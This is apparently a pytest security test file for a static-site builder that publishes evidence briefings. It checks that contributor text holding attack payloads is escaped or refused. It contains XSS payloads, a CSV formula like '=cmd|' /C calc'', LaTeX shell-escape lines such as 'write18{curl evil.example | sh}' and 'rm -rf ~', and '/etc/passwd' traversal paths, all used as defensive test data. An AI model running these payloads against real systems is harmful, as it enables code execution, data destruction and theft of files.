"""Contributor text is untrusted: whatever it holds, the built site runs none of it.

A project whose every text field carries attack payloads is built for real; the HTML,
the search index and the downloads are parsed and checked, and the payload text must
still be there, shown as text (escaped, not dropped).
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import urllib.request
from html.parser import HTMLParser
from pathlib import Path

import pytest
from mkdocs.exceptions import MkDocsException
from pypdf import PdfReader

from builder.appraisals import appraised_as, rated_as
from builder.bib import parse_bib
from builder.build import page_front_matter
from builder.check import load_source
from builder.cli import main
from builder.config import load_settings
from builder.latex import ALLOWED
from builder.problems import MAX_PER_FILE, format_problems
from builder.render.html import Page
from builder.site import build_site
from tests.conftest import ENGINES, build_with, check_root, search_index, serving

PAYLOAD = (
    '<script>alert("PWNED")</script><img src=x onerror=alert("PWNED")>'
    "[click](javascript:alert('PWNED')) <javascript:alert('PWNED')> <iframe src=//evil.example></iframe>"
    '<style>body{display:none}</style><form action=//evil.example><a href="data:text/html,PWNED">d</a>'
    "{: onclick=\"alert('PWNED')\" } ![x](javascript:alert('PWNED')) *[PWNED]: abbr &#x3C;script&#x3E;"
)
EVIL_TEXT_FIELDS = ("design", "setting")
# A summary has 80 to 200 words: the payload, then enough plain words.
EVIL_SUMMARY = PAYLOAD + " " + " ".join(["words"] * 80)
SAFE_SCHEMES = ("http://", "https://", "mailto:", "#")


def _yaml_str(text: str) -> str:
    return json.dumps(text)  # a JSON string is a valid double-quoted YAML scalar


@pytest.fixture(scope="module", params=ENGINES)
def evil_site(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("evil")
    (root / "evidence").mkdir()
    (root / "docs").mkdir()
    p = _yaml_str(PAYLOAD)
    # A hand-written page's front matter: the theme prints it in the head and the navigation.
    (root / "docs" / "about.md").write_text(f"---\ntitle: {p}\ndescription: {p}\nauthor: {p}\n---\n# About\n")
    # The site's name too: the theme prints it on every page (builder/mkdocs_plugin.py escapes it).
    (root / "mkdocs.yml").write_text(
        f"site_name: {p}\nuse_directory_urls: false\ntheme:\n  name: material\n  font: false\nplugins:\n  - evidence\n"
    )
    judged = f"{{concerns: minor, reason: {p}}}"
    (root / "evidence" / "themes.yaml").write_text(
        f"themes:\n  - id: leadership\n    title: {p}\n    question: {p}\n    description: {p}\n"
        f"    key_messages:\n      - id: m\n        statement: {p}\n        supported_by: [evil/f1]\n"
        f"        confidence:\n          coherence: {judged}\n          overall: {{level: low, reason: {p}}}\n"
        f"          assessed_by: {p}\n          assessed: 2026-01-01\n"
    )
    (root / "evidence" / "briefing.yaml").write_text(
        f"question: {p}\nimplications_for: {p}\nversion: {p}\npublisher: {p}\neditors: [{p}]\nlicence: {p}\n"
        f"scope:\n  description: {p}\n  places: [{p}]\n  from_year: 2020\n"
        f"  policy_context:\n    - date: 2022-07-01\n      change: {p}\n"
        f"methods:\n  systematic_review: false\n  statement: {p}\n"
    )
    fields = "\n".join(f"{name}: {p}" for name in EVIL_TEXT_FIELDS) + f"\nsummary: {_yaml_str(EVIL_SUMMARY)}"
    # (A citation's locator is a place, p. 3, or the check refuses it: no markup reaches the page there.)
    statement = _yaml_str(PAYLOAD + " [@evil2020, p. 3]")
    reason = _yaml_str(PAYLOAD + '" onmouseover=alert(1) x="')
    evil = (
        f"id: evil\ncite: evil2020\ntype: study\n{fields}\nsample:\n  notes: {p}\n"
        f"findings:\n  - id: f1\n    theme: leadership\n    statement: {statement}\n"
        f"    quote:\n      text: {p}\n      locator: {p}\n"
        f"  - id: f2\n    theme: leadership\n    statement: {p}\n"
        f"  - id: f3\n    theme: leadership\n    statement: {p}\n"
        f"limitations: [{p}]\nimplications: [{p}]\nadded: 2026-01-01\n"
    )
    (root / "evidence" / "evil.yaml").write_text(evil)
    _, source, _ = load_source("evidence/evil.yaml", evil)
    bib_payload = PAYLOAD.replace("{", "").replace("}", "")
    (root / "references.bib").write_text(
        f"@article{{evil2020,\n  author = {{{bib_payload} and Smith, J.}},\n  title = {{{bib_payload}}},\n"
        f"  journal = {{{bib_payload}}},\n  year = {{2020}},\n  howpublished = {{{bib_payload}}},\n}}\n"
    )
    reference = parse_bib((root / "references.bib").read_text(), "references.bib").references["evil2020"]
    appraised, rated = appraised_as(source, reference), rated_as(source.findings[0], source, reference)
    (root / "evidence" / "appraisals.yaml").write_text(
        f"appraisals:\n  - source: evil\n    about: {appraised}\n    tool: {p}\n    concerns: minor\n"
        f"    reason: {p}\n    appraised_by: {p}\n    appraised: 2026-01-01\n"
        f"strengths:\n  - source: evil\n    finding: f1\n    about: {rated}\n    level: low\n"
        f"    reason: {reason}\n"
    )
    result = check_root(root)
    assert result.ok, [p.text() for p in result.problems]
    return build_with(request.param, root)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.article_tags: list[str] = []  # tags inside <article>, where page content goes
        self.scripts: list[str] = []
        self.text: list[str] = []
        self._in_script = False
        self._in_article = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        self._in_article = self._in_article or tag == "article"
        if self._in_article:
            self.article_tags.append(tag)

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False
        self._in_article = self._in_article and tag != "article"

    def handle_data(self, data: str) -> None:
        (self.scripts if self._in_script else self.text).append(data)


def _parse(path: Path) -> _Collector:
    collector = _Collector()
    collector.feed(path.read_text(encoding="utf-8"))
    return collector


def _generated_pages(site: Path) -> list[Path]:
    """Every page of the site: each shows the navigation, and most show contributor text."""
    pages = sorted(site.rglob("*.html"))
    assert len(pages) > 10
    return pages


def test_no_script_handler_or_dangerous_element_reaches_the_html(evil_site: Path) -> None:
    for page in _generated_pages(evil_site):
        doc = _parse(page)
        dangerous = {"iframe", "object", "embed", "img", "style", "script", "input", "svg", "math"}
        assert not dangerous & set(doc.article_tags), (page, dangerous & set(doc.article_tags))
        assert "article" in doc.article_tags
        for tag, attrs in doc.tags:
            assert not [a for a in attrs if a.startswith("on")], (page, tag, attrs)
            if tag == "form":  # only the site's own filter forms, which send nothing anywhere
                assert attrs.get("class") in ("evidence-filters", "evidence-map-picker"), (page, attrs)
                assert "action" not in attrs, (page, attrs)
            if tag == "script":
                src = attrs.get("src") or ""
                assert src == "" or src.endswith(".js") and "://" not in src and ":" not in src, (page, src)
        assert not any("PWNED" in script for script in doc.scripts), page


def test_links_use_only_safe_schemes(evil_site: Path) -> None:
    for page in _generated_pages(evil_site):
        for _tag, attrs in _parse(page).tags:
            for name in ("href", "src", "action", "formaction", "xlink:href"):
                value = (attrs.get(name) or "").strip().lower()
                if ":" in value.split("/")[0]:
                    assert value.startswith(SAFE_SCHEMES), (page, name, value)


@pytest.mark.parametrize("page", ["sources/evil.html", "index.html", "themes/leadership.html", "methods.html"])
def test_payload_is_shown_as_text_not_dropped(evil_site: Path, page: str) -> None:
    # The source page (with its appraisal), the front matter, the editor's judgement and the prompts.
    text = " ".join(_parse(evil_site / page).text)
    assert '<script>alert("PWNED")</script>' in text
    assert "[click](javascript:alert('PWNED'))" in text


def test_search_index_is_data_that_cannot_end_its_script(evil_site: Path) -> None:
    for script in (evil_site / "search").glob("*.js"):
        text = script.read_text()
        assert "</" not in text and text.isascii(), script  # no </script>, no character to misread
    documents, postings = search_index(evil_site)
    # The payload is kept as text, for the browser to show with textContent, never as markup.
    (evil,) = [row for row in documents if row[0] == "sources/evil.html"]
    assert evil[3].startswith('<script>alert("PWNED")</script>')
    assert "pwned" in postings


def test_downloads_neutralise_spreadsheet_formulas(evil_site: Path) -> None:
    rows = list(csv.DictReader(io.StringIO((evil_site / "downloads" / "findings.csv").read_text())))
    assert rows and all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    data = json.loads((evil_site / "downloads" / "evidence.json").read_text())
    assert data["sources"][0]["summary"] == EVIL_SUMMARY  # JSON keeps the text exactly; it is data, not markup


def test_the_feed_is_well_formed_xml(evil_site: Path) -> None:
    import xml.etree.ElementTree as ET

    feed = ET.parse(evil_site / "feed.xml").getroot()
    assert any(PAYLOAD in (e.text or "") for e in feed.iter())


@pytest.mark.parametrize(
    "title", ["\x80[x](https://evil.example){: #__search }", "a\nb: c\n---\nd", '"; title: x', "\u2028"]
)
def test_front_matter_cannot_be_broken_by_a_title(title: str) -> None:
    import yaml

    front = page_front_matter(Page("p", title, "<h1>x</h1>", description=title))
    assert front.isascii()
    meta = yaml.safe_load(front.strip().strip("-"))
    assert set(meta) == {"title", "description"}


@pytest.mark.parametrize("bad_id", ["../../etc/passwd", "a/b", "..", "CON", "x y", "-x", "x--y"])
def test_ids_that_could_make_paths_are_refused(mini: Path, bad_id: str) -> None:
    text = (mini / "evidence" / "gamma-blog.yaml").read_text().replace("id: gamma-blog", f"id: {json.dumps(bad_id)}")
    (mini / "evidence" / "gamma-blog.yaml").write_text(text)
    problems = check_root(mini).problems
    assert any(p.key_path == "id" and "is not a slug" in p.message for p in problems)


@pytest.mark.parametrize(
    ("value", "pieces"),
    [
        ('=HYPERLINK("x")', ['\'=HYPERLINK("x")']),
        ("plain text", ["plain text"]),
        ("Costs rose;=4+7;@SUM(1+17)", ["Costs rose", "'=4+7", "'@SUM(1+17)"]),  # Excel in much of Europe splits on ;
        ("a, +1, -2", ["a", " '+1", " '-2"]),
        ("\t=cmd|' /C calc'!A0;\r\n-2", ["'=cmd|' /C calc'!A0", " '-2"]),  # tabs and line ends are folded first
    ],
)
def test_no_piece_of_a_csv_cell_is_a_formula(value: str, pieces: list[str]) -> None:
    from builder.render.downloads import cell

    written = cell(value)
    assert written.startswith('"') and written.endswith('"')  # every text cell is quoted
    (found,) = next(csv.reader([written]))
    assert re.split(r"[;,\t]", found) == pieces


def test_verification_is_bounded_whatever_the_stored_text_and_the_file_hold(mini: Path) -> None:
    """Issue 25.4: a small evidence file against a megabyte stored text of numbers, with 300
    figures and 4 quotes that are not in it (it took 71 s and printed 118 KB). The text is indexed
    once, and the file gets at most the per-file cap of messages. (Times are measured by hand.)"""
    rnd = random.Random(25)
    numbers = " ".join(str(rnd.randrange(1000, 999999)) for _ in range(140_000))
    (mini / "source-texts" / "alpha-study.txt").write_text(f"Numbers (test data)\n\n{numbers}.\n")
    path = mini / "evidence" / "alpha-study.yaml"
    statements = "".join(
        f"  - id: figures-{i}\n    theme: leadership\n    statement: Figures "
        + " ".join(str(n) for n in range(1_000_000 + 100 * i, 1_000_100 + 100 * i))
        + f".\n    quote:\n      text: {numbers[i * 40 : i * 40 + 34]} zebra\n      locator: para 1\n"
        for i in range(3)
    )
    path.write_text(path.read_text().replace("findings:\n", "findings:\n" + statements))
    assert len(path.read_bytes()) < 5000
    problems = [p for p in check_root(mini).problems if p.file == "evidence/alpha-study.yaml"]
    # 300 figures of the statements, the sample's 12 and 2, the fixture's figures in words (Two
    # sites in the setting; two and twelve in the summary) and 4 quotes: 309, of which 20 are listed.
    assert len(problems) == MAX_PER_FILE + 1
    assert problems[-1].message == f"{309 - MAX_PER_FILE} more problems in this file are not listed"
    assert len(format_problems(problems)) < 20_000


# ---- Issue 25: what a pull request could carry in round three ----------------------------

# Unicode format characters (category Cf), each named as the check names it.
FORMAT_CHARACTERS = {
    "\u200b": "ZERO WIDTH SPACE (U+200B)",
    "\u200d": "ZERO WIDTH JOINER (U+200D)",
    "\u00ad": "SOFT HYPHEN (U+00AD)",
    "\u2060": "WORD JOINER (U+2060)",
    "\ufeff": "ZERO WIDTH NO-BREAK SPACE (U+FEFF)",  # a byte-order mark, inside the text
    "\u200e": "LEFT-TO-RIGHT MARK (U+200E)",
    "\u061c": "ARABIC LETTER MARK (U+061C)",
    "\U000e0041": "TAG LATIN CAPITAL LETTER A (U+E0041)",
}
BRIEFING = (
    "question: What helps?\nscope:\n  description: England.\n"
    "methods:\n  systematic_review: false\n  statement: We read what we found.\n"
)
# Each kind of contributed file, the text to put the character in, and that text's line.
CONTRIBUTED = {
    "evidence/alpha-study.yaml": ("setting: Two sites.", 5),
    "evidence/themes.yaml": ("question: Who leads?", 4),
    "evidence/briefing.yaml": ("question: What helps?", 1),
    "references.bib": ("title  = {A work the study cites}", 21),
}


@pytest.mark.parametrize("file", CONTRIBUTED)
@pytest.mark.parametrize("char", FORMAT_CHARACTERS, ids=[f"U+{ord(c):04X}" for c in FORMAT_CHARACTERS])
def test_format_characters_are_refused_in_every_contributed_file(mini: Path, file: str, char: str) -> None:
    (mini / "evidence" / "briefing.yaml").write_text(BRIEFING)
    text, line = CONTRIBUTED[file]
    path = mini / file
    written = path.read_text(encoding="utf-8")
    assert text in written
    path.write_text(written.replace(text, text[:-4] + char + text[-4:]), encoding="utf-8")
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    assert problem.file == file and problem.line == line
    assert problem.message == f"the invisible character {FORMAT_CHARACTERS[char]} is not allowed"
    assert char not in problem.text() and problem.hint.startswith("delete it")


def test_joiners_may_stand_between_letters_of_scripts_that_need_them(mini: Path) -> None:
    path = mini / "evidence" / "alpha-study.yaml"
    persian = "Two sites; interviews in Persian (\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645)."
    path.write_text(path.read_text(encoding="utf-8").replace("setting: Two sites.", f"setting: {persian}"))
    result = check_root(mini)
    assert result.ok, [p.text() for p in result.problems]
    assert result.corpus.by_id["alpha-study"].source.setting == persian


def _cited(mini: Path, statement: str, findings: int) -> None:
    """alpha-study with `findings` more findings, on alternate themes, each saying `statement`."""
    path = mini / "evidence" / "alpha-study.yaml"
    themes = ("leadership", "practice-managers")
    more = "".join(
        f"  - id: more-{i}\n    theme: {themes[i % 2]}\n    statement: {json.dumps(statement)}\n"
        for i in range(findings)
    )
    path.write_text(path.read_text(encoding="utf-8").replace("limitations:\n", more + "limitations:\n"))


def test_a_work_cited_again_and_again_in_one_place_is_shown_once(mini: Path) -> None:
    # 80 such findings, 1,240 citations each ([@a; @a; ...]), took the PDF 124 s and 2 GB.
    _cited(mini, "See [@cited2019" + "; @cited2019" * 400 + "].", 80)
    site = build_site(mini / "mkdocs.yml")
    page = (site / "sources" / "alpha-study.html").read_text(encoding="utf-8")
    assert page.count(">Delta et al., 2019</a>)") == 80  # one link for each finding,
    assert page.count(">Delta et al., 2019</a>") < 100  # not 401
    assert len(PdfReader(site / "downloads" / "briefing.pdf").pages) < 20


def test_the_pdf_is_bounded_however_long_the_findings(mini: Path) -> None:
    _cited(mini, " ".join(["commissioning"] * 350) + " [@cited2019].", 80)  # 80 findings of 4,900 characters
    site = build_site(mini / "mkdocs.yml")
    reader = PdfReader(site / "downloads" / "briefing.pdf")
    assert len(reader.pages) < 40  # all 80 would be over a hundred pages
    text = " ".join(" ".join(page.extract_text() for page in reader.pages).split())
    more = "findings on this theme, after these in order of kind of source, are on the theme's page"
    assert f"{more} on the briefing's website." in text


def test_every_stage_of_the_check_is_capped_per_file(mini: Path) -> None:
    # 40 figures missing from the stored text (found by the verification) and 40 unknown citations
    # (found when the files are linked): one file's problems, listed once, 20 at most.
    path = mini / "evidence" / "alpha-study.yaml"
    wrong = "".join(f"  - id: wrong-{i}\n    theme: leadership\n    statement: It was {1000 + i}.\n" for i in range(40))
    text = path.read_text(encoding="utf-8").replace("limitations:\n", wrong + "limitations:\n")
    path.write_text(text.replace("references:\n  - cited2019\n", "references:\n" + "  - nowhere2020\n" * 40))
    problems = [p for p in check_root(mini).problems if p.file == "evidence/alpha-study.yaml"]
    assert len(problems) == MAX_PER_FILE + 1
    assert problems[-1].message == "60 more problems in this file are not listed" and problems[-1].fails


def test_downloaded_bibtex_carries_no_latex_a_reader_would_run(mini: Path) -> None:
    bib = mini / "references.bib"
    bib.write_text(
        '@comment{\\input{/etc/passwd}}\n% \\immediate\\write18{rm -rf ~}\n@string{jt = "Journal of {\\\'E}tudes"}\n'
        + bib.read_text().replace("journal = {Journal of Tests},", "journal = jt,\n  abstract = {Anything},")
    )
    site = build_site(mini / "mkdocs.yml")
    written = (site / "downloads" / "references.bib").read_text(encoding="utf-8")
    page = _parse(site / "sources" / "alpha-study.html")
    cite_this = next(t for t in page.text if t.startswith("@article{alpha2020"))
    for bibtex in (written, cite_this):
        assert "@comment" not in bibtex and "@string" not in bibtex and "@preamble" not in bibtex
        assert "abstract" not in bibtex and "input" not in bibtex and "write18" not in bibtex
        assert "journal = {Journal of {\\'E}tudes}" in bibtex  # the @string's text, written out
        assert set(re.findall(r"\\([A-Za-z]+|.)", bibtex)) <= ALLOWED
    assert written.count("@") == 3  # the three entries


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("See \\input{/etc/passwd}", "\\input"),
        ("\\immediate\\write18{curl evil.example | sh}", "\\immediate"),
        ("\\emph{a \\csname input\\endcsname}", "\\csname"),
        ("50% \\openout1=x", "\\openout"),  # a % is text in BibTeX: what follows it is checked too
        ("\\begin{verbatim}x\\end{verbatim}", "\\begin{verbatim}"),
        ("Tom ^^5cinput x", "^^"),  # TeX reads ^^5c as a backslash
        ("a } @preamble{ x", "}"),  # a brace that would end the value early
    ],
)
def test_latex_a_reader_would_run_is_refused_at_check_time(mini: Path, value: str, written: str) -> None:
    bib = mini / "references.bib"
    bib.write_text(bib.read_text().replace("title  = {A work the study cites},", f'note = "{value}",'))
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    assert problem.file == "references.bib" and problem.key_path == "cited2019.note"
    assert problem.excerpt[problem.col - 1 :].startswith(written)


# ---- Issue 25, round four: what the red team broke after round three ---------------------

SKELETON = Path(__file__).resolve().parent.parent / "builder" / "skeleton"


def _victim(tmp_path: Path) -> Path:
    victim = tmp_path / "victim"
    (victim / "important").mkdir(parents=True)
    (victim / "important" / "data.txt").write_text("precious")
    return victim


@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
@pytest.mark.parametrize("link", ["site", "out"])  # the site's folder itself, or a folder on the way to it
def test_a_site_folder_reached_through_a_link_is_refused_and_what_it_points_at_is_kept(
    mini: Path, tmp_path: Path, engine: str, link: str, capsys: pytest.CaptureFixture[str]
) -> None:
    # A committed `site -> ..` had the build delete the repository and a sibling folder.
    victim = _victim(tmp_path)
    (mini / link).symlink_to(victim)
    site = [] if link == "site" else ["--site-dir", str(mini / "out" / "site")]
    assert main(["--root", str(mini), "build", "--engine", engine, *site]) == 1
    assert "is a symbolic link" in capsys.readouterr().err  # said by the check (Zensical's build) or the build
    assert [p.relative_to(victim).as_posix() for p in sorted(victim.rglob("*"))] == [
        "important",
        "important/data.txt",
    ]
    assert (victim / "important" / "data.txt").read_text() == "precious"


def test_the_check_says_that_the_site_folder_is_a_link(mini: Path, tmp_path: Path) -> None:
    (mini / "site").symlink_to(_victim(tmp_path))
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    assert problem.text().splitlines()[0] == (
        "site:1:1: error: this is a symbolic link: the build would replace what it points at with the site"
    )


def test_the_build_replaces_only_a_site_it_made(mini: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = mini / "public"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    build = ["--root", str(mini), "build", "--site-dir", str(out)]
    assert main(build) == 1
    assert f"build failed: {out} holds files this build did not make" in capsys.readouterr().err
    assert (out / "notes.txt").read_text() == "mine"
    (out / "notes.txt").unlink()
    assert main(build) == 0  # an empty folder
    assert main(build) == 0 and (out / "index.html").exists()  # a site it made


@pytest.mark.parametrize(
    ("config", "said"),
    [
        ("- a\n", "mkdocs.yml:1:1: error: MkDocs cannot read this file: The configuration is invalid. Expected"),
        (
            "site_name: x\nplugins: [{evidence: [1]}]\n",
            "mkdocs.yml:1:1: error: plugins.evidence: the plugins cannot be read: 'plugins:' must be a list",
        ),
    ],
)
@pytest.mark.parametrize("command", ["check", "build"])
def test_a_mkdocs_yml_of_the_wrong_shape_is_one_problem(
    mini: Path, config: str, said: str, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    (mini / "mkdocs.yml").write_text(config)
    assert main(["--root", str(mini), command]) == 1
    err = capsys.readouterr().err
    assert err.startswith(said) and "Traceback" not in err


@pytest.mark.parametrize(
    ("name", "content", "said"),
    [
        (b"bad\xff.md", "# Hello\n", "docs/bad\\xff.md:1:1: error: this name is not plain: the navigation makes"),
        ("<img src=x onerror=alert(1)>.md", "text\n", "docs/<img src=x onerror=alert(1)>.md:1:1: error: this name is"),
        *[
            (folder, "x", f"docs/{folder}:1:1: error: this file has the path of a folder the build makes ({folder}/)")
            for folder in ("downloads", "search", "browse", "schema", "assets")
        ],
        (
            "about.md",
            "# About\n\nSee [the page](missing.md).\n",
            "docs/about.md:3:16: error: this link goes to missing.md, which is not a page or file of the site",
        ),
    ],
)
def test_what_the_build_fails_on_in_docs_fails_the_check_at_its_file(
    mini: Path, name: str | bytes, content: str, said: str
) -> None:
    folder = os.fsencode(mini / "docs")
    with open(os.path.join(folder, os.fsencode(name)), "w", encoding="utf-8") as file:
        file.write(content)
    assert [p.text().splitlines()[0][: len(said)] for p in check_root(mini).problems if p.fails] == [said]
    with pytest.raises(MkDocsException):  # the check predicts the build, which stops there, not later
        build_site(mini / "mkdocs.yml")


def test_links_the_build_accepts_pass_the_check(mini: Path) -> None:
    (mini / "docs" / "about.md").write_text(
        "---\ntitle: About\n---\n# About\n\n[m](methods.md) [t](themes/leadership.md#x) [s](sources/alpha-study.md) "
        "[d](downloads/findings.csv) [f](feed.xml) [e](https://example.org/x.md) [a](#top) [n](notes) "
        "`[c](code.md)`\n\n```\n[f](fenced.md)\n```\n\n    [i](indented.md)\n"
    )
    result = check_root(mini)
    assert result.ok, [p.text() for p in result.problems]
    build_site(mini / "mkdocs.yml")  # strict


def test_the_preview_survives_what_the_build_fails_on_in_docs(mini: Path) -> None:
    # A file where the build writes a folder made `evidence serve` die with a traceback.
    (mini / "docs" / "downloads").write_text("x")
    with serving(mini) as served:
        served.said("this file has the path of a folder the build makes")
        (mini / "docs" / "downloads").unlink()
        served.said("rebuilt in")
        with urllib.request.urlopen(f"{served.url}/index.html", timeout=30) as response:
            assert response.status == 200


def _secret(path: Path, text: str) -> Path:
    """A file outside the project that no message or page may show."""
    path.write_text(text)
    return path


def test_a_link_in_the_theme_s_folder_is_refused(
    mini: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = _secret(tmp_path / "passwd", "root:x:0:0:secret")
    (mini / "overrides").mkdir()
    (mini / "overrides" / "leak.txt").symlink_to(secret)
    config = mini / "mkdocs.yml"
    config.write_text(config.read_text().replace("  font: false\n", "  font: false\n  custom_dir: overrides\n"))
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    assert problem.text().splitlines()[0] == (
        "overrides/leak.txt:1:1: error: this is a symbolic link, which the build does not follow"
    )
    assert main(["--root", str(mini), "build", "--engine", "zensical"]) == 1
    assert "root:x" not in capsys.readouterr().err and not (mini / "site").exists()


@pytest.mark.parametrize("pages", ["{a.md: /etc/passwd}", "{a.md: ../secret.txt}", "{../../a.md: CONTRIBUTING.md}"])
def test_extra_pages_stay_inside_the_project(mini: Path, pages: str) -> None:
    config = mini / "mkdocs.yml"
    config.write_text(config.read_text().replace("  - evidence\n", f"  - evidence:\n      extra_pages: {pages}\n"))
    settings, (problem,) = load_settings(config)
    assert (problem.line, problem.key_path) == (8, "plugins.evidence.extra_pages")
    assert problem.message.startswith("each page is a name ending in .md and a file inside the project's folder")


@pytest.mark.parametrize(
    ("setting", "said"),
    [
        ("docs_dir: /etc\n", "mkdocs.yml:6:1: error: docs_dir: must name a folder inside the project's folder"),
        (
            "plugins:\n  - evidence:\n      source_texts: ../../texts\n",
            "mkdocs.yml:8:7: error: plugins.evidence.source_texts: must name a file or folder inside the project's",
        ),
    ],
)
def test_configured_folders_stay_inside_the_project(mini: Path, setting: str, said: str) -> None:
    config = mini / "mkdocs.yml"
    config.write_text(config.read_text().replace("plugins:\n  - evidence\n", "") + setting)
    (problem,) = load_settings(config)[1]
    assert problem.text().startswith(said)


def test_a_mkdocs_yml_that_is_a_link_is_refused_and_what_it_points_at_never_shown(
    mini: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = _secret(tmp_path / "secret.env", "a: 1\nAWS_SECRET=abcdEXAMPLEsecret: x: y\n")
    (mini / "mkdocs.yml").unlink()
    (mini / "mkdocs.yml").symlink_to(secret)
    assert main(["--root", str(mini), "check"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("mkdocs.yml:1:1: error: this file is a symbolic link, which the check does not follow")
    assert "EXAMPLE" not in err
    (mini / "mkdocs.yml").unlink()
    (mini / "mkdocs.yml").write_text("INHERIT: ../secret.env\nsite_name: x\n")
    assert secret.parent == mini.parent  # beside the project, as the mini fixture is in tmp_path
    assert main(["--root", str(mini), "check"]) == 1
    err = capsys.readouterr().err
    assert "mkdocs.yml:1:1: error: INHERIT: the file it inherits from, '../secret.env', is outside" in err
    assert "EXAMPLE" not in err


@pytest.mark.parametrize("owners", [Path(__file__).resolve().parent.parent / ".github", SKELETON / "dot-github"])
def test_the_editors_own_what_the_build_publishes_as_it_is(owners: Path) -> None:
    text = (owners / "CODEOWNERS").read_text()
    owned = {line.split()[0] for line in text.splitlines() if line.strip() and not line.startswith("#")}
    assert {"/docs/", "/CONTRIBUTING.md", "/mkdocs.yml", "/overrides/"} <= owned


GUARD_SECONDS = 30  # each of these once took a minute or more; now under a few seconds


def _quoting(mini: Path, quote: str, locator: str) -> Path:
    path = mini / "evidence" / "alpha-study.yaml"
    text = path.read_text(encoding="utf-8").replace("text: leaders convene", f"text: {_yaml_str(quote)}")
    path.write_text(text.replace("locator: p. 3", f"locator: {_yaml_str(locator)}"), encoding="utf-8")
    return path


def test_a_private_text_s_passages_never_reach_the_messages(
    mini: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 25 round four, 12: in the publishing workflow the check's messages are a public log."""
    private = tmp_path / "private"
    private.mkdir()
    (mini / "source-texts" / "alpha-study.txt").rename(private / "alpha-study.txt")
    monkeypatch.setenv("EVIDENCE_SOURCE_TEXTS", str(private))
    _quoting(mini, "leaders convene people from organisations they do control", "para 2")
    (problem,) = [p for p in check_root(mini).problems if p.fails]
    said = problem.text()
    assert 'the text has "not" where the quote has nothing' in said  # the word differences stay...
    assert "paragraph 2 of alpha-study.txt, which is kept privately and not shown here" in said  # ...and where
    # ...but no passage of the text: no run of four of its words that the quote does not have.
    stored = (private / "alpha-study.txt").read_text().split()
    runs = {" ".join(stored[i : i + 4]) for i in range(len(stored) - 3)}
    assert not [run for run in runs if run in said and run not in problem.excerpt]


def _timed_cases() -> dict[str, tuple[str, str]]:
    """Small evidence files whose check once took minutes (issue 25 round four, 6), each with the
    start of the message it must give. Built when a test runs, not when tests are collected."""
    blocks = "".join(f"k{i}: |\n" for i in range(40_000))  # 84 s: the rest of the file split per block
    tabs = "limitations:\n" + '  - "a\n    b"\n' * 8000 + "\t- x\n"  # 38 s: later lines rescanned per quote
    flow = "limitations: [" + ", ".join(f"w{i}" for i in range(80_000)) + "]\n"  # 7 s: the line copied per value
    return {
        "blocks": (f"id: alpha-study\n{blocks}", ":1:1: error: the fields 'cite' and 'type'"),
        "tab": (tabs, ":16002:1: error: a tab is used here to indent; YAML allows only spaces"),
        "flow": (flow, ":1:1: error: the fields 'id' and 'cite'"),
    }


@pytest.mark.timeout(GUARD_SECONDS)
@pytest.mark.parametrize("case", ["blocks", "tab", "flow"])
def test_reading_a_small_file_is_linear(mini: Path, case: str) -> None:
    text, said = _timed_cases()[case]
    (mini / "evidence" / "alpha-study.yaml").write_text(text, encoding="utf-8")
    problems = [p for p in check_root(mini).problems if p.fails and p.file == "evidence/alpha-study.yaml"]
    assert said in format_problems(problems), format_problems(problems)[:600]


@pytest.mark.timeout(GUARD_SECONDS)
def test_a_thousand_unknown_sections_in_a_locator_are_one_problem_found_quickly(mini: Path) -> None:
    """53 s once: each unknown name searched the whole of a 0.9 MB text."""
    (mini / "source-texts" / "alpha-study.txt").write_text(
        "Title here\n\n" + ("Some words of text that go on. " * 30 + "\n\n") * 1000
    )
    names = ",".join(f"{a}{b}" for a in "abcdefghijklmnopqrstuvwxyz" for b in "abcdefghijklmnopqrstuvwxyz")
    _quoting(mini, "Some words of text", names)
    locators = [p for p in check_root(mini).problems if p.key_path.endswith("quote.locator")]
    assert [p.message for p in locators] == [
        "the stored text has no heading 'aa', nor any of the 675 other sections the locator names"
    ]


@pytest.mark.timeout(GUARD_SECONDS)
def test_saying_a_long_wrong_quote_compares_a_bounded_part_of_it(mini: Path) -> None:
    """100 s once: difflib on every mark of a 1,860-mark "quote" against a text of marks."""
    (mini / "source-texts" / "alpha-study.txt").write_text("T\n\n" + " ".join(".," * 60 for _ in range(400)))
    _quoting(mini, " ".join(",." * 62 for _ in range(15)) + " ;", "para 1")
    (problem,) = [p for p in check_root(mini).problems if p.key_path.endswith("quote.text")]
    assert "is not word for word in the stored text" in problem.message and len(problem.text()) < 2000


@pytest.mark.parametrize(
    ("text", "locator", "said"),
    [
        ("", "Abstract, para 3", "source_text: the stored text alpha-study.txt has no words"),
        (
            "Title\n\nleaders convene.\n\nResults",
            "Results, para 1",
            "findings[0].quote.locator: paragraph 1 is past the end of the section 'Results', which has 0",
        ),
    ],
)
def test_an_empty_text_or_section_is_a_problem_not_a_crash(mini: Path, text: str, locator: str, said: str) -> None:
    """Issue 25 round four, 7: an IndexError once, from a section with no paragraph."""
    (mini / "source-texts" / "alpha-study.txt").write_text(text)
    path = _quoting(mini, "leaders convene", locator)
    path.write_text(path.read_text().replace("kind: summary", "kind: abstract"))
    # (The fixture's figures are not in these texts: that is said too, at the figures.)
    (problem,) = [p for p in check_root(mini).problems if p.key_path in ("source_text", "findings[0].quote.locator")]
